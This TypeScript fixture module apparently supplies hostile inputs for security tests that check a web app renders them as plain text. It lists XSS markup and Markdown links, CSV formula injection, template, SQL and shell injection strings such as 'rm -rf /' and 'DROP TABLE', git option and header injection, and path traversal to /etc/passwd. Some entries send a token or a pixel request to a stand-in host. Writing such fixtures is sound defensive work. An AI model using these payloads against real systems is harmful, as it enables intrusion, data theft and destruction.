/**
 * A text that somebody typed or a file held in order to do harm.
 *
 * @public
 */
export interface HostileText {
  /** Says what it tries; unique, for the names of tests. */
  name: string;
  text: string;
}

/**
 * Marks harm that was done: a text that runs as script sets this property of the window, so a test looks whether it
 * is there.
 *
 * @public
 */
export const HOSTILE_MARK = 'hostileTextRan';

const RUN = `window.${HOSTILE_MARK}=1`;

/** Addresses that no page may ask for. */
const OUTSIDE = 'https://outside.example';

/**
 * Markup and scripts: nothing of it may become an element, an attribute or a request.
 *
 * @public
 */
export const HOSTILE_MARKUP: readonly HostileText[] = [
  { name: 'script', text: `<script>${RUN}</script>` },
  {
    name: 'script that closes what it stands in',
    text: `"'></title></textarea></style><script>${RUN}</script>`,
  },
  { name: 'image with a handler', text: `<img src=x onerror="${RUN}">` },
  { name: 'SVG with a handler', text: `<svg onload="${RUN}"><g/></svg>` },
  {
    name: 'SVG with foreign content',
    text: `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'frame', text: `<iframe src="javascript:parent.${RUN}"></iframe>` },
  {
    name: 'form',
    text: `<form action="${OUTSIDE}/steal"><input name=token autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  },
  {
    name: 'style sheet',
    text: `<style>body{display:none;background:url(${OUTSIDE}/style)}</style><link rel=stylesheet href=${OUTSIDE}/sheet>`,
  },
  {
    name: 'page with another base and a redirect',
    text: `<base href="${OUTSIDE}/"><meta http-equiv=refresh content="0;url=${OUTSIDE}/">`,
  },
  {
    name: 'markup that a cleaner breaks open',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  },
  { name: 'encoded markup', text: `&lt;script&gt;${RUN}&lt;/script&gt;` },
];

/**
 * Markdown: it may be shown as Markdown, but without raw HTML, without requests to elsewhere and without links that
 * run something.
 *
 * @public
 */
export const HOSTILE_MARKDOWN: readonly HostileText[] = [
  { name: 'link that runs script', text: `[read more](javascript:${RUN})` },
  {
    name: 'link that runs script, disguised',
    text: `[read more](JaVaScRiPt&colon;${RUN}) <java\tscript:${RUN}>`,
  },
  {
    name: 'link to a document in the address',
    text: `[read more](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  },
  {
    name: 'link by reference that runs script',
    text: `[read more][1]\n\n[1]: vbscript:${RUN}`,
  },
  { name: 'image that reports', text: `![logo](${OUTSIDE}/pixel.gif)` },
  { name: 'image that runs script', text: `![logo](javascript:${RUN})` },
  {
    name: 'image with a handler',
    text: `![x](x"onerror="${RUN})`,
  },
  {
    name: 'raw HTML between Markdown',
    text: `# Card\n\n<b onmouseover=${RUN}>bold</b>`,
  },
  {
    name: 'link with a window to come back through',
    text: `[elsewhere](${OUTSIDE}/tab)`,
  },
  { name: 'many open brackets', text: '['.repeat(2_000) },
];

/**
 * Names and values that mean something to one of the layers below: no layer may take them for more than text.
 *
 * @public
 */
export const HOSTILE_VALUES: readonly HostileText[] = [
  { name: 'colours of a terminal', text: '\u001b[31mred\u001b[0m\u001b[2J' },
  {
    name: 'title and link of a terminal',
    text: `\u001b]0;owned\u0007\u001b]8;;${OUTSIDE}\u0007click\u001b]8;;\u0007`,
  },
  { name: 'text that runs backwards', text: 'model\u202egnp.exe' },
  {
    name: 'text of another direction',
    text: 'a\u2066\u202e\u2069b\u200f\u061c',
  },
  { name: 'letters without width', text: 'ad\u200bmin\ufeff\u2060' },
  { name: 'formula', text: `=HYPERLINK("${OUTSIDE}","open")` },
  { name: 'formula by another sign', text: '+1+cmd|/c calc!A0' },
  { name: 'formula behind a tab', text: '\t@SUM(1,1)' },
  { name: 'prototype', text: '__proto__' },
  { name: 'constructor', text: 'constructor' },
  { name: 'method of every object', text: 'toString' },
  { name: 'quotes and separators of CSV', text: '",;\r\n"x' },
  {
    name: 'template braces',
    text: '{{constructor.constructor("return 1")()}}',
  },
  {
    name: 'template of the scaffolder',
    text: '${{ secrets.token }} {% raw %}',
  },
  {
    name: 'template of JavaScript',
    text: '${process.exit(1)} #{7*7} <%= 7*7 %>',
  },
  { name: 'placeholder of translations', text: '{{count}} $t(title)' },
  { name: 'SQL', text: "'; DROP TABLE runs; --" },
  { name: 'SQL that is always true', text: '" OR ""="' },
  { name: 'wildcards of SQL', text: "%_\\%' ESCAPE '" },
  { name: 'condition for MLflow', text: "x' OR attributes.status = 'RUNNING" },
  {
    name: 'name for MLflow',
    text: 'metrics.`loss` < 1 and tags."a b" != \'c\'',
  },
  { name: 'command of a shell', text: '$(touch /tmp/owned) `id` ; rm -rf / #' },
  { name: 'option of a command', text: '--upload-pack=touch /tmp/owned' },
  { name: 'header', text: 'x\r\nSet-Cookie: a=b\r\n\r\n<b>' },
  { name: 'address that runs script', text: `javascript:${RUN}` },
  { name: 'address without a scheme', text: '//outside.example/path' },
  { name: 'half a character', text: 'a\ud800b' },
  { name: 'emoji and marks without end', text: `👩‍👩‍👧‍👦${'\u0301'.repeat(200)}` },
  { name: 'very long word', text: 'x'.repeat(5_000) },
  { name: 'number that is none', text: 'NaN' },
  { name: 'only space', text: ' \u00a0\u3000 ' },
];

/**
 * Paths that try to leave the folder they belong to, or that a server could read as something else.
 *
 * @public
 */
export const HOSTILE_PATHS: readonly HostileText[] = [
  { name: 'parent', text: '../secret' },
  { name: 'parent in the middle', text: 'a/../../secret' },
  { name: 'parent at the end', text: 'a/..' },
  { name: 'this folder', text: './a' },
  { name: 'parent, encoded', text: '%2e%2e/secret' },
  { name: 'parent, encoded twice', text: '%252e%252e%252fsecret' },
  { name: 'parent, separator encoded', text: '..%2fsecret' },
  { name: 'parent, other separator', text: '..\\secret' },
  { name: 'parent, other separator encoded', text: 'a%5c..%5c..%5csecret' },
  { name: 'absolute', text: '/etc/passwd' },
  { name: 'absolute, encoded', text: '%2fetc%2fpasswd' },
  { name: 'absolute with a drive', text: 'C:\\Windows\\win.ini' },
  { name: 'absolute with a drive and slashes', text: 'C:/Windows/win.ini' },
  { name: 'server', text: '//outside.example/share' },
  { name: 'address', text: 'file:///etc/passwd' },
  { name: 'NUL', text: 'a.txt\u0000.png' },
  { name: 'NUL, encoded', text: 'a.txt%00.png' },
  { name: 'line break', text: 'a\r\nb' },
  { name: 'empty part', text: 'a//b' },
];

/**
 * All of them that fit into a name or a value.
 *
 * @public
 */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...HOSTILE_MARKUP,
  ...HOSTILE_MARKDOWN,
  ...HOSTILE_VALUES,
  ...HOSTILE_PATHS,
];
